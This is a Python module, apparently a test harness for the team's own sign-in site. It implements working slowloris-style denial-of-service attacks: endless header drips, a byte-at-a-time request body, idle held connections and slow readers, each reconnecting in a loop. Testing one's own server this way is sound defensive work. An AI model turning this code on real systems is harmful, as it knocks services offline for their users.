"""Attacks with connections that need no account: slow headers, slow bodies, slow readers, idle ones."""

import asyncio
import contextlib
import socket

DRIP_SECONDS = 0.5
RECONNECT_SECONDS = 0.2
# The kernel doubles it; small enough that an answer does not fit between the server and a reader who does not read.
READ_BUFFER_BYTES = 2048
HEADERS = b"Host: localhost\r\nUser-Agent: attack\r\n"


async def slow_headers(site):
    """Send the lines of a request's header one by one, without an end."""
    await _hold(site, first=b"GET /sign-in/ HTTP/1.1\r\n" + HEADERS, drip=b"X-Slow: 1\r\n")


async def slow_bodies(site):
    """Announce a body and send it byte by byte."""
    head = b"POST /sign-in/ HTTP/1.1\r\n" + HEADERS
    head += b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n"
    await _hold(site, first=head, drip=b"x")


async def idle(site):
    """Make one request and keep the connection."""
    await _hold(site, first=b"GET /healthz HTTP/1.1\r\n" + HEADERS + b"\r\n", drip=b"")


async def slow_readers(site):
    """Ask again and again on one connection for a large file, and hardly read the answers."""
    request = b"GET /static/oncall_site/site.css HTTP/1.1\r\n" + HEADERS + b"\r\n"
    await _hold(site, first=request * 200, drip=b"", read=64)


async def _hold(site, *, first, drip, read=0):
    """Keep one connection open in this way; open it again whenever the server closes it."""
    while True:
        try:
            connection = socket.socket()
            # From another address than the team's, as an attacker's would be.
            connection.bind(("127.0.0.2", 0))
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, READ_BUFFER_BYTES)
            connection.setblocking(False)
            with contextlib.closing(connection):
                await asyncio.get_running_loop().sock_connect(connection, (site.host, site.port))
                reader, writer = await asyncio.open_connection(sock=connection, limit=READ_BUFFER_BYTES)
                site.counts["connections"] += 1
                writer.write(first)
                await _drip(site, reader, writer, drip=drip, read=read)
        except OSError:
            site.counts["closed"] += 1
            await asyncio.sleep(RECONNECT_SECONDS)


async def _drip(site, reader, writer, *, drip, read):
    while True:
        await asyncio.sleep(DRIP_SECONDS)
        writer.write(drip)
        await writer.drain()
        if read and not await reader.read(read):
            raise ConnectionResetError
        if not read and reader.at_eof():
            raise ConnectionResetError
